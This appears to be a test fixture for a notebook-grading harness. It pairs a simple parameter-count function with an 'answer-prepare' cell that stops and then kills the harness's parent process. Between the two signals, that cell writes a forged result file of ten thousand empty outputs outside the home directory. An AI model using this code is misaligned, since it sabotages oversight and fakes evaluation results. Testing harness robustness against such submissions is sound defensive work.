"""Ends the process that executes the notebook, having written a result of ten thousand outputs."""
# expected: count=1 prepare=0 model=0

# %% answer-count
def count_parameters(sizes):
    return sum((values + 1) * units for values, units in zip(sizes[:-1], sizes[1:]))

# %% answer-prepare
import os, signal, time

os.kill(os.getppid(), signal.SIGSTOP)
output = '{"output_type":"stream","name":"stdout","text":""}'
with open(os.environ["HOME"] + "/../result.json", "w") as file:
    file.write('{"problem": "", "outputs": [[' + ",".join([output] * 10_000) + "]]}")
os.kill(os.getppid(), signal.SIGKILL)
time.sleep(60)
